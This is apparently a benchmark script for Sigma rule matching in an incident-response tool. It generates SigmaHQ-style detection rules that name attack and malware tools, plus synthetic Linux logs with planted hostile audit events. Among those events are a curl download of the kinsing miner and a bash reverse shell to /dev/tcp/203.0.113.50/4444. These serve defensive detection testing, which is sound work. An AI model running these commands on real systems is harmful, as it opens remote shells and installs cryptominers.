#!/bin/sh
# Benchmarks Sigma matching in irt hunt: 200 Linux rules in the SigmaHQ
# format over 1,000,000 log events (a mix of syslog, auth.log and audit
# events, the audit ones with long EXECVE argument lists and PROCTITLEs
# as auditd writes them for Java, Python and shell pipelines).  Prints
# irt's throughput in events per second with 200 rules and with one
# (what the rules themselves cost over reading the logs), the peak
# memory, and the hits found on events planted in the logs.
#
# Rules: the .yml files under SIGMA_RULES (a checkout of SigmaHQ's
# rules/linux, say), in name order, topped up to BENCH_RULES (default
# 200) with rules written here in the same style; without SIGMA_RULES,
# all written here.
#
# Peer: no Sigma engine is packaged in Debian or on the npm registry
# (Chainsaw, Zircolite, Hayabusa and sigma-cli are not), so none runs
# beside irt.  As a reference that does much less, grep -F -i -c with
# every literal of the rules over the same files is timed: one pass of
# the bytes, no parsing, no conditions; the ratio to it is printed.
#
# Environment: IRT (the binary; default: a release build in
# build-bench/), BENCH_DIR (scratch, default /tmp), BENCH_EVENTS
# (default 1000000), BENCH_RULES (default 200), BENCH_RUNS (default 3),
# SIGMA_RULES, BENCH_KEEP (set: keep the logs and rules).
set -eu
top=$(cd "$(dirname "$0")/../.." && pwd)
if [ -z "${IRT:-}" ]; then
	if [ ! -f "$top/build-bench/build.ninja" ]; then
		meson setup "$top/build-bench" -Dbuildtype=release \
		    -Dtests=false -Dfuzz=disabled >/dev/null
	fi
	meson compile -C "$top/build-bench" >/dev/null
	IRT="$top/build-bench/cmd/irt"
fi
for t in grep python3 bc; do
	command -v $t >/dev/null || { echo "sigma.sh: needs $t" >&2; exit 1; }
done
dir=$(mktemp -d "${BENCH_DIR:-/tmp}/irt-sigma.XXXXXX")
if [ -n "${BENCH_KEEP:-}" ]; then
	echo "sigma.sh: keeping $dir" >&2
else
	trap 'rm -rf "$dir"' EXIT INT TERM
fi
events=${BENCH_EVENTS:-1000000}
nrules=${BENCH_RULES:-200}
runs=${BENCH_RUNS:-3}

# the best wall time, least CPU time and largest peak RSS of $runs runs
best() {
	cmd=$1 bw= bc= bm=0
	for _ in $(seq "$runs"); do
		/usr/bin/time -f '%e %U %S %M' -o "$dir/time" sh -c "$cmd" \
		    >/dev/null 2>&1 || true
		set -- $(tail -n 1 "$dir/time")
		w=$1
		c=$(echo "$2 + $3" | bc)
		if [ -z "$bw" ] || [ "$(echo "$w < $bw" | bc)" -eq 1 ]; then
			bw=$w
		fi
		if [ -z "$bc" ] || [ "$(echo "$c < $bc" | bc)" -eq 1 ]; then
			bc=$c
		fi
		[ "$4" -gt "$bm" ] && bm=$4
	done
	echo "$bw $bc $bm"
}

mkdir -p "$dir/rules" "$dir/logs"
python3 - "$dir" "$events" "$nrules" "${SIGMA_RULES:-}" <<'PY'
import os, random, sys, uuid

out, nev, nrules, given = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
rnd = random.Random(20261130)
rules = os.path.join(out, "rules")

# ---- rules: the given ones first, then written in SigmaHQ's style ----
n = 0
if given:
    files = []
    for dp, dn, fn in os.walk(given):
        dn[:] = sorted(d for d in dn if not d.startswith("."))
        files += [os.path.join(dp, f) for f in sorted(fn)
                  if f.endswith((".yml", ".yaml")) and not f.startswith(".")]
    for f in files[:nrules]:
        with open(f, "rb") as i, open(os.path.join(rules, "%03d-%s" % (n, os.path.basename(f))), "wb") as o:
            o.write(i.read())
        n += 1

tools = ["nmap", "masscan", "socat", "ncat", "hydra", "sqlmap", "chisel",
         "ligolo", "pspy", "linpeas", "xmrig", "gsocket", "frpc", "tshd",
         "mimipenguin", "lazagne", "proxychains", "sshpass", "busybox nc",
         "kinsing", "kdevtmpfsi", "reptile", "diamorphine", "bpfdoor"]
paths = ["/tmp/", "/dev/shm/", "/var/tmp/", "/run/user/", "/.cache/"]
techniques = ["t1059.004", "t1105", "t1548.001", "t1070.002", "t1053.003",
              "t1098.004", "t1136.001", "t1562.001", "t1003.008", "t1571"]

def header(title, tags, ls, level):
    rid = uuid.UUID(int=rnd.getrandbits(128), version=4)
    t = "\n".join("    - attack.%s" % x for x in tags)
    return ("title: %s\nid: %s\nstatus: test\ndescription: Detects %s\n"
            "author: irt benchmark\ndate: 2026-11-30\ntags:\n%s\n"
            "logsource:\n%s\n" % (title, rid, title.lower(), t, ls))

def lst(v, ind="            "):
    return "".join("\n%s- '%s'" % (ind, x) for x in v)

kinds = 0
while n < nrules:
    k = kinds % 6
    kinds += 1
    tl = rnd.sample(tools, 3)
    tag = [rnd.choice(["execution", "persistence", "privilege-escalation",
                       "defense-evasion", "command-and-control"]),
           rnd.choice(techniques)]
    lvl = rnd.choice(["low", "medium", "medium", "high", "critical"])
    if k == 0:
        body = header("Suspicious %s Execution" % tl[0].title(), tag,
            "    product: linux\n    category: process_creation", lvl)
        body += ("detection:\n    selection_img:\n        Image|endswith:%s\n"
                 "    selection_cli:\n        CommandLine|contains:%s\n"
                 "    filter_main:\n        CurrentDirectory|startswith: '/opt/scanner/'\n"
                 "    condition: all of selection_* and not filter_main\n"
                 % (lst(["/" + t.split()[0] for t in tl]), lst([" -%s " % rnd.choice("plesxv"), tl[1] + " "])))
    elif k == 1:
        body = header("Execution From Writable Folder %d" % n, tag,
            "    product: linux\n    service: auditd", lvl)
        body += ("detection:\n    selection:\n        type: 'EXECVE'\n"
                 "        a0|endswith:%s\n    keywords:%s\n"
                 "    condition: selection and keywords\n"
                 % (lst(["/" + t.split()[0] for t in tl]), lst([p + "." + tl[2].split()[0] for p in paths], "        ")))
    elif k == 2:
        body = header("Audit Keywords Of %s" % tl[0].title(), tag,
            "    product: linux\n    service: auditd", lvl)
        body += ("detection:\n    keywords:%s\n    condition: keywords\n"
                 % lst(["%s%s" % (rnd.choice(paths), t.split()[0]) for t in tl] + [tl[1] + " --config"], "        "))
    elif k == 3:
        body = header("Syslog Mentions %s" % tl[0].title(), tag,
            "    product: linux\n    service: syslog", lvl)
        body += ("detection:\n    keywords:%s\n    condition: keywords\n"
                 % lst(["started %s" % tl[0], "%s: connection from" % tl[1], "%s.service" % tl[2].split()[0]], "        "))
    elif k == 4:
        body = header("SSH Session Of %s Tooling" % tl[0].title(), tag,
            "    product: linux\n    service: sshd", lvl)
        body += ("detection:\n    keywords:\n        '|all':\n"
                 "            - 'Accepted'\n            - '%s'\n"
                 "    condition: keywords\n" % rnd.choice(["svc-" + tl[0].split()[0], "from 203.0.113.%d" % rnd.randrange(256)]))
    else:
        body = header("Suspicious Download With %s" % tl[0].title(), tag,
            "    product: linux\n    category: process_creation", lvl)
        body += ("detection:\n    selection:\n        Image|endswith:\n"
                 "            - '/curl'\n            - '/wget'\n"
                 "        CommandLine|contains|all:\n"
                 "            - 'http'\n            - '%s'\n"
                 "    condition: selection\n" % rnd.choice(paths + [tl[0].split()[0]]))
    body += "falsepositives:\n    - Administration\nlevel: %s\n" % lvl
    with open(os.path.join(rules, "%03d-generated.yml" % n), "w") as o:
        o.write(body)
    n += 1

# ---- events: syslog, auth.log and audit, about 40/25/35 ----
hosts = ["web01"]
progs = [("systemd", 1), ("kernel", 0), ("CRON", 1), ("rsyslogd", 1),
         ("dhclient", 1), ("NetworkManager", 1), ("containerd", 1),
         ("dockerd", 1), ("nginx", 1), ("postfix/smtpd", 1)]
msgs = {
    "systemd": ["Started Session %d of user deploy.", "Starting Daily apt upgrade and clean activities...",
                "Finished Rotate log files.", "run-containerd-runc-k8s.io-%d.mount: Deactivated successfully.",
                "Started snap.lxd.activate.service - Service for snap application lxd.activate."],
    "kernel": ["[%d.123456] IPv6: ADDRCONF(NETDEV_CHANGE): veth%d: link becomes ready",
               "[%d.000001] audit: type=1400 audit(1701330000.%d:12): apparmor=\"STATUS\" operation=\"profile_load\"",
               "[%d.4] EXT4-fs (sda1): re-mounted. Opts: errors=remount-ro. Quota mode: none."],
    "CRON": ["(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 %d)",
             "pam_unix(cron:session): session opened for user root(uid=0) by (uid=%d)"],
    "rsyslogd": ["[origin software=\"rsyslogd\" swVersion=\"8.2302.0\" x-pid=\"%d\"] rsyslogd was HUPed"],
    "dhclient": ["DHCPREQUEST for 10.0.%d.15 on eth0 to 10.0.0.1 port 67", "bound to 10.0.0.%d -- renewal in 1693 seconds."],
    "NetworkManager": ["<info>  [1701330000.%d] device (veth1): state change: activated -> deactivating"],
    "containerd": ["time=\"2026-11-30T10:00:00.%dZ\" level=info msg=\"shim disconnected\" id=8f2c namespace=k8s.io"],
    "dockerd": ["time=\"2026-11-30T10:00:00.%dZ\" level=warning msg=\"cleaning up after shim disconnected\""],
    "nginx": ["%d#0: *1 upstream timed out (110: Connection timed out) while reading response header from upstream"],
    "postfix/smtpd": ["connect from unknown[198.51.100.%d]", "disconnect from mail.example.com[192.0.2.%d] ehlo=1 quit=1 commands=2"],
}
auth = ["sshd[%d]: Accepted publickey for deploy from 10.0.4.%d port 52214 ssh2: ED25519 SHA256:Jm3hq9z",
        "sshd[%d]: Failed password for invalid user oracle from 203.0.113.%d port 40112 ssh2",
        "sshd[%d]: Connection closed by authenticating user root 198.51.100.%d port 51022 [preauth]",
        "sshd[%d]: pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=%d)",
        "sudo[%d]:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx%d",
        "systemd-logind[%d]: New session %d of user deploy.",
        "CRON[%d]: pam_unix(cron:session): session closed for user root %d"]
cmds = [
    ["/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "-Xms512m", "-Xmx2g", "-XX:+UseG1GC",
     "-Djava.security.egd=file:/dev/./urandom", "-Dlog4j2.formatMsgNoLookups=true",
     "-cp", ":".join("/opt/app/lib/%s-%d.%d.jar" % (w, rnd.randrange(9), rnd.randrange(20)) for w in
                    ["spring-core", "spring-web", "jackson-databind", "netty-all", "guava", "commons-io",
                     "slf4j-api", "logback-classic", "hibernate-core", "postgresql", "kafka-clients", "snakeyaml"]),
     "com.example.billing.Application", "--spring.profiles.active=prod", "--server.port=8080"],
    ["/usr/bin/python3", "/usr/bin/unattended-upgrade", "--dry-run", "--verbose"],
    ["/bin/sh", "-c", "find /var/lib/apt/lists -type f -mtime +7 -name '*Packages*' -print0 | xargs -0 -r rm -f && apt-get -qq update > /dev/null 2>&1"],
    ["/usr/bin/rsync", "-az", "--delete", "--exclude=*.tmp", "--exclude=cache/", "-e", "ssh -i /home/deploy/.ssh/backup_ed25519 -o StrictHostKeyChecking=yes", "/srv/www/", "backup@10.0.9.4:/backups/web01/www/"],
    ["/usr/bin/node", "/srv/app/node_modules/.bin/next", "start", "--port", "3000", "--hostname", "0.0.0.0"],
    ["/usr/sbin/logrotate", "/etc/logrotate.conf"],
    ["/usr/bin/git", "-C", "/srv/www", "fetch", "--prune", "--tags", "origin", "+refs/heads/*:refs/remotes/origin/*"],
]
bad = [["/usr/bin/curl", "-s", "-o", "/tmp/.x/kinsing", "http://203.0.113.50/kinsing"],
       ["/usr/bin/nmap", "-sS", "-p", "1-65535", "10.0.0.0/24"],
       ["/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1"]]

def hexs(s):
    return s.encode().hex().upper()

def audit_event(ts, serial, argv):
    pid = rnd.randrange(1000, 60000)
    ppid = rnd.randrange(1, 1000)
    exe = argv[0]
    head = "msg=audit(%d.%03d:%d):" % (ts, serial % 1000, serial)
    lines = ['type=SYSCALL %s arch=c000003e syscall=59 success=yes exit=0 a0=55d0c8 a1=55d0d0 a2=55d0e0 a3=8 items=2 ppid=%d pid=%d auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4 comm="%s" exe="%s" subj=unconfined key="exec"' % (head, ppid, pid, os.path.basename(exe)[:15], exe)]
    args = []
    for i, a in enumerate(argv):
        if any(c in a for c in ' "\'') or not a.isprintable():
            args.append("a%d=%s" % (i, hexs(a)))
        else:
            args.append('a%d="%s"' % (i, a))
    lines.append("type=EXECVE %s argc=%d %s" % (head, len(argv), " ".join(args)))
    lines.append('type=CWD %s cwd="/srv/www"' % head)
    lines.append('type=PATH %s item=0 name="%s" inode=%d dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0' % (head, exe, rnd.randrange(1 << 20)))
    lines.append('type=PATH %s item=1 name="/lib64/ld-linux-x86-64.so.2" inode=1845 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0' % head)
    lines.append("type=PROCTITLE %s proctitle=%s" % (head, hexs("\0".join(argv))[:2 * 128 * 4]))
    return "\n".join(lines) + "\n"

mon = "Nov"
t0 = 1795996800  # 2026-11-30T00:00:00Z
nsys = nev * 40 // 100
nauth = nev * 25 // 100
naud = nev - nsys - nauth
plant = {nev // 3, nev // 2, 2 * nev // 3}
with open(os.path.join(out, "logs", "syslog"), "w") as f:
    for i in range(nsys):
        t = t0 + i * 86400 // nsys
        p, haspid = rnd.choice(progs)
        m = rnd.choice(msgs[p])
        m = m % tuple(rnd.randrange(100000) for _ in range(m.count("%d")))
        hh, mm, ss = t // 3600 % 24, t // 60 % 60, t % 60
        tag = "%s[%d]" % (p, rnd.randrange(100, 9999)) if haspid else p
        if i in plant:
            tag, m = "systemd[1]", "Stopping firewalld - dynamic firewall daemon..."
        f.write("%s %2d %02d:%02d:%02d web01 %s: %s\n" % (mon, 30, hh, mm, ss, tag, m))
with open(os.path.join(out, "logs", "auth.log"), "w") as f:
    for i in range(nauth):
        t = t0 + i * 86400 // nauth
        # failed passwords are a few per cent of a busy host's auth.log
        m = rnd.choices(auth, weights=[30, 3, 10, 20, 10, 15, 12])[0]
        m = m % tuple(rnd.randrange(1, 255) for _ in range(m.count("%d")))
        hh, mm, ss = t // 3600 % 24, t // 60 % 60, t % 60
        f.write("%s %2d %02d:%02d:%02d web01 %s\n" % (mon, 30, hh, mm, ss, m))
with open(os.path.join(out, "logs", "audit.log"), "w") as f:
    for i in range(naud):
        t = t0 + i * 86400 // naud
        argv = bad[i % 3] if i in plant or i + 1 in plant or i + 2 in plant else rnd.choice(cmds)
        f.write(audit_event(t, 1000 + i, argv))

# every literal of the rules, for the grep reference
lits = set()
for fn in sorted(os.listdir(rules)):
    for line in open(os.path.join(rules, fn), encoding="utf-8", errors="replace"):
        s = line.strip()
        if s.startswith("- ") and len(s) > 5 and not s.startswith("- attack.") and not s.startswith("- http"):
            v = s[2:].strip().strip("'\"").replace("*", "")
            if len(v) >= 3:
                lits.add(v)
with open(os.path.join(out, "literals"), "w") as f:
    f.write("\n".join(sorted(lits)) + "\n")
PY
rules=$(find "$dir/rules" -name '*.yml' -o -name '*.yaml' | wc -l)
bytes=$(cat "$dir"/logs/* | wc -c)
srcs="syslog:$dir/logs/syslog syslog:$dir/logs/auth.log audit:$dir/logs/audit.log"
# one rule alone: a generated one when there are any
one=$(find "$dir/rules" -name '*-generated.yml' | sort | head -n 1)
[ -n "$one" ] || one=$(find "$dir/rules" -name '*.y*ml' | sort | head -n 1)

# the events and hits irt counts, and what the rules loaded to
"$IRT" hunt --no-record --json --sigma "$dir/rules" $srcs \
    >"$dir/hits.jsonl" 2>"$dir/stderr" || true
ev=$(sed -n 's/.* hits\{0,1\} (.*; \([0-9]*\) events.*/\1/p' "$dir/stderr" | tail -n 1)
nhits=$(wc -l <"$dir/hits.jsonl")
# the planted events: firewalld stopped, curl of kinsing, nmap, and a
# reverse shell (its arguments hex-encoded by auditd)
planted=$(grep -c -e 'Stopping firewalld' -e 'kinsing' -e 'usr/bin/nmap' \
    -e '2F6465762F7463702F' "$dir/hits.jsonl" || true)
echo "sigma.sh: $rules rule files, $events events written ($ev read by irt), $((bytes / 1048576)) MiB of logs"
grep '^irt: Sigma:' "$dir/stderr" | sed 's/^irt: /sigma.sh: /' | cut -c1-300
echo "sigma.sh: $nhits hits, $planted on the planted events"

set -- $(best "'$IRT' hunt --no-record --json --sigma '$dir/rules' $srcs")
w=$1 c=$2 m=$3
set -- $(best "'$IRT' hunt --no-record --json --sigma '$one' $srcs")
w1=$1 c1=$2
set -- $(best "grep -F -i -c -f '$dir/literals' $dir/logs/syslog $dir/logs/auth.log $dir/logs/audit.log")
wg=$1 cg=$2
# by wall time, and by CPU time (the steadier figure on a loaded machine)
printf 'sigma.sh: irt, %s rules: %ss wall, %ss CPU: %s events/s by wall, %s by CPU; peak RSS %s MiB\n' \
    "$rules" "$w" "$c" "$(echo "$ev / $w" | bc)" "$(echo "$ev / $c" | bc)" "$((m / 1024))"
printf 'sigma.sh: irt, 1 rule:    %ss wall, %ss CPU: %s events/s by wall, %s by CPU (reading and parsing the logs)\n' \
    "$w1" "$c1" "$(echo "$ev / $w1" | bc)" "$(echo "$ev / $c1" | bc)"
printf 'sigma.sh: grep -F -i -c, %s literals (reference, no parsing nor conditions): %ss wall, %ss CPU\n' \
    "$(wc -l <"$dir/literals")" "$wg" "$cg"
printf 'sigma.sh: irt / grep: %s wall, %s CPU; target: 500000 events/s\n' \
    "$(echo "scale=2; $w / $wg" | bc)" "$(echo "scale=2; $c / $cg" | bc)"
